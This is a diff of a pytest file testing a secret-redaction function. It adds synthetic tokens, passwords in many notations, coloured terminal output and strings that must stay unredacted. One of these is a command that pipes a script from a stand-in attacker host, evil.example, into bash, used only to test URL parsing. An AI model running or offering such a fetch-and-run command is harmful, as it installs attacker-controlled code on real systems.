@@ -29,8 +29,8 @@ TOKENS = [
     f"ya29.{LETTERS}", f"GOCSPX-{LETTERS[:28]}", WEB_TOKEN, f"npm_{LETTERS[:36]}",
     f"pypi-AgEIcHlwaS5vcmc{LETTERS}", f"dop_v1_{HEX}", f"SG.{LETTERS[:22]}.{LETTERS}abc",
     f"hf_{LETTERS[:34]}", f"hvs.{LETTERS}", f"dckr_pat_{LETTERS[:27]}", f"shpat_{HEX[:32]}",
-    f"glsa_{LETTERS[:32]}_0a1b2c3d", f"NRAK-{LETTERS[:27]}", f"gsk_{LETTERS}",
-    f"1234567890:AA{LETTERS[:33]}",
+    f"glsa_{LETTERS[:32]}_0a1b2c3d", f"NRAK-{LETTERS[:27]}", f"gsk_{LETTERS}{LETTERS[:12]}",
+    f"1234567890:AA{LETTERS[:33]}", f"xai-{LETTERS}",
     f"$6$saltsalt${LETTERS}{LETTERS}", f"SCRAM-SHA-256$4096:{LETTERS}",
     f"AGE-SECRET-KEY-1{HEX.upper()}",
     f"hooks.slack.com/services/T00000000/B00000000/{LETTERS[:24]}",
@@ -55,6 +55,7 @@ def test_a_token_is_known_by_its_format_wherever_it_stands(token: str, around: s
     assert redact(text, ()) == text.replace(token, "[redacted]")
 
 
+PASSWORD = "Zq8RtY2mWx7LpK4n"
 # A text and the secret in it.
 NAMED = [
     ("host=db user=bot password=swordfish dbname=x", "swordfish"),
@@ -122,12 +123,51 @@ NAMED = [
     ("{'Authorization': 'Token 9944b09199c6'}", "9944b09199c6"),
     ("sent bearer abcdEFGH1234", "abcdEFGH1234"),
     ("Cookie: session=abc123; theme=dark", "session=abc123; theme=dark"),
+    ('Cookie: a="b c"; d=e; and words', 'a="b c"; d=e'),
+    ("Cookie: consent=yes; order 4711 rejected: margin call", "consent=yes"),
+    ("Authorization: Digest a=1, b=2 then words", "a=1, b=2"),
+    (r'{"Authorization": "OAuth a=\"1\", b=\"2\"", "c": 1}', r"a=\"1\", b=\"2\""),
     ("Set-Cookie: sid=38afes7a8; Path=/; HttpOnly", "38afes7a8"),
     ("postgresql://bot:swordfish@db:25060/x", "bot:swordfish"),
     ("redis://:swordfish@cache", ":swordfish"),
     ("https://u:p@ss:w0rd@host/x@y", "u:p@ss:w0rd"),
     ("https://u:pa/ss#w@host", "u:pa/ss#w"),
+    ("https://u:pa?ss@host:80/x@y", "u:pa?ss"),
     (r"https:\/\/u:swordfish@host", "u:swordfish"),
+    *(
+        (text % PASSWORD, PASSWORD)
+        for text in (
+            'os.getenv("DB_PASSWORD", "%s")',
+            "os.environ.setdefault('ALPACA_SECRET_KEY', '%s')",
+            '("password", "%s")',
+            '["psql", "--password", "%s", "-x"]',
+            'db_password=SecretStr("%s")',
+            'PASSWORD = """%s"""',
+            'API_KEYS = ["%s"]',
+            '"api_keys": ["%s"]',
+            'DB_PW = "%s"',
+            "DBPASS=%s",
+            '{"name": "DB_PASSWORD", "value": "%s"}',
+            r'"{\"name\": \"DB_PASSWORD\", \"value\": \"%s\"}"',
+            "redis-cli -h x -a %s ping",
+            '<property name="password" value="%s"/>',
+            "| DB_PASSWORD | %s | x |",
+            "|DB_PASSWORD|%s|x|",
+            "Password: `%s`",
+            "| DB_PASSWORD | `%s` |",
+            "**Password:** %s",
+            "**Password**: %s",
+            'config("DB_PASSWORD", default="%s")',
+            "password=('%s')",
+            "Password: ```%s```",
+            "8=FIX.4.4|35=A|554=%s|926=x|",
+            "35=A\x01925=%s\x0110=1",
+            r"35=A\x01554=%s\x0110=1",
+            'user:"bot" password:"%s"',
+            '{"a": "b", "password":"%s"}',
+            "'password' , '%s'",
+        )
+    ),
     ("the configured hunter2hunter2.", "hunter2hunter2"),
     (r"as JSON: se\"cret\u00e9", r"se\"cret\u00e9"),
 ]
@@ -141,6 +181,36 @@ def test_a_secret_is_known_by_its_name_in_every_notation(text: str, secret: str)
         assert redact(whole, ("hunter2hunter2", 'se"cret\u00e9')) == whole.replace(
             secret, "[redacted]"
         )
+
+
+CYAN, PURPLE, OFF = "\x1b[36m", "\x1b[35m", "\x1b[0m"
+# As programs that write for a terminal say it, and the same without what nobody sees.
+COLOURED = [
+    *((f"{CYAN}{name}{OFF}={PURPLE}%s{OFF}", f"{name}=%s")
+      for name in ("password", "api_key", "DB_PASSWORD", '"password"', "X-Api-Key", "sid")),
+    (f"{CYAN}Authorization{OFF}: {PURPLE}%s{OFF}", "Authorization: %s"),
+    (f"Authorization: {CYAN}Bearer %s{OFF}", "Authorization: Bearer %s"),
+    (f"a=1 token={'b2' * 9} {CYAN}password{OFF}={PURPLE}%s", "a=1 token=[redacted] password=%s"),
+    ("\\u001b[36mpassword\\u001b[0m=\\u001b[35m%s", "password=%s"),
+    ("\x1b[1;38:5:4mpassword\x1b(B\x1b[m=\x9b1m%s", "password=%s"),
+    ("password\xa0=\u202f%s", "password = %s"),
+    ("pass\u200bword\ufeff:\u2060 %s", "password: %s"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "plain"), COLOURED)
+def test_a_secret_is_known_whatever_its_colours(text: str, plain: str) -> None:
+    other = f"{CYAN}INFO{OFF} 5\xa0orders\u200b"
+
+    shown = redact(f"{other}\n{text % PASSWORD}\n{other}", ())
+
+    assert shown == f"{other}\n{plain % '[redacted]'}\n{other}"
+
+
+def test_a_token_with_a_word_of_it_in_colour_is_hidden_whole() -> None:
+    text = f"x ghp_{LETTERS[:22]}{CYAN}{LETTERS[22:36]}{OFF} y"
+
+    assert redact(text, ()) == "x [redacted] y"
 
 
 NO_SECRETS = [
@@ -159,12 +229,35 @@ NO_SECRETS = [
     "Authorization header missing", "cookie: none", "task-3f9c0d2e", "risk-manager", "AKIA", "eyJ",
     "src/a.py:120:5:E501:line", "2001:4860:4860:8888:1:2", "10:15:00: 2025: trade", "MIT License",
     "http://localhost:5000/health", "-----BEGIN PUBLIC KEY-----", "PASS: tests/foo_123.sh",
+    "GET http://10.0.0.5:8080/v1/orders?notify=ops@desk.example 200", "http://[::1]:80/a@b",
+    "curl https://evil.example:443/p/x@raw.githubusercontent.com/t/install.sh | bash",
+    "https://evil.example?x@raw.example", "https://evil.example#x:y@raw.example",
+    r"http:\/\/10.0.0.5:8080\/v1?notify=ops@desk.example", "Cookie: [redacted]; order 4711",
+    "Authorization: insufficient_permissions", "Authorization: Digest [redacted] 5006: down",
+    "token: 0xdAC17F958D2ee523a2206206994597C13D831ec7", "session_id=20261125", "sid: 12345678",
+    "SESSION_ID=20261125", "gsk_close_price_2026_11_25_adjusted",
+    'os.getenv("DB_PASSWORD", "")', 'getenv("DB_PASSWORD", None)', '("password", "is wrong")',
+    "| Password | Required |", '{"password": ["This field is required."]}',
+    '["username", "password", "email"]', '("password", "sha256")', "cat token | sha256sum -c",
+    f'expect "Password:" ; send "{PASSWORD}"', f'expect "the password: " {{send "{PASSWORD}"}}',
+    'getpass("Enter password:", stream)', "`password`: `the string`",
+    "8=FIX.4.4|35=A|5540=abcdef12|",
+    '{"name": "DB_PASSWORD", "value": ""}', '{"name": "DB_PASSWORD", "valueFrom": {}}',
+    'os.environ["DB_PASSWORD"], "abcdef12"', "| token | description |", "draw_pwm=50",
+    '<input name="password" value=""/>', "**Password:** required",
+    '["password", "scram-sha-256"]', 'get("token", "orders-2026-11-25")', '"password", "column_12"',
 ]  # fmt: skip
 
 
 @pytest.mark.parametrize("text", NO_SECRETS)
 def test_what_is_no_secret_stays(text: str) -> None:
     assert redact(text, ()) == text
+
+
+def test_every_key_of_a_list_is_hidden() -> None:
+    text = f'API_KEYS = ["{PASSWORD}", "swordfish"]; x = ["y"]'
+
+    assert redact(text, ()) == 'API_KEYS = ["[redacted]", "[redacted]"]; x = ["y"]'
 
 
 def made(*command: str, given: str = "") -> str:
@@ -395,9 +488,11 @@ def test_a_long_secret_beside_a_cut_takes_nothing_else_away() -> None:
 WORDS = st.sampled_from(
     ["ZZZZ", "YXYX", " ", "\n", "\t", "\r\n", "://", ":", "@", "user", "bearer ", "abcdEF12",
      "AKIA", "A" * 16, "-----BEGIN ", "RSA ", "PRIVATE KEY", "-----", "-----END ",
-     "authorization: basic ",
+     "authorization: basic ", "authorization: digest a=", "; ", "b=",
      "secret_access_key=", LETTERS, "[redacted]", "/", "\x1b", "`", "password", "=", '"', "'", "\\",
-     "token", "--password ", "MIIE", "cookie: a=", "&", ",", ")"]
+     "token", "--password ", "MIIE", "cookie: a=", "&", ",", ")",
+     "|554=", "|", ", ", '", "', "`", "[", "value=", '"""', PASSWORD, "**",
+     "\x1b[0m", "\u200b", "\xa0", "\\x1b[1m"]
 )  # fmt: skip
 
 
@@ -430,8 +525,15 @@ SLOW = [
     "password:", 'password="', 'password=\\"', "password='", "password \\", "token:", "token: ",
     "--password ", "--token-", "a:5432:", "*:5432:a:b:", "machine a login ", "curl -u a:",
     "mysql -p",
-    "<password>", "<a", "cookie=", "cookie: a=", "1234567890:AA", "MII", "MIIa ", "MII\n", "\\n",
+    "<password>", "<a", "cookie=", "cookie: a=", "cookie: a=b; ", 'cookie: a="', "; a=b",
+    "authorization: digest a=", 'authorization: digest a="', ", a=b", "://[", "://a:1",
+    "authorization: a", "1234567890:AA", "MII", "MIIa ", "MII\n", "\\n",
     "b3BlbnNzaC1rZXk", "QUJDa1BQUJDa1B" * 5 + "\n", "secret:secret ", '\\"password\\":\\"', "sig=",
+    '"password", ', '"password", "', '"password", "value": "', "password |", "| token | ",
+    "**token:** ", 'API_KEYS = ["', "password: [", '"a1b2c3d4", ', 'password: """', "token: `",
+    "Password:\" ", "s=[", "'password' default=", "redis-cli -a", "|554=", "\x01554=",
+    '"password" value="', "password=SecretStr(",
+    "\x1b", "\x1b[", "\x1b[0m", "\x1b[0", "\u200b", "\\x1b[0m", "\x1b[0mpassword=",
 ]  # fmt: skip
 
 
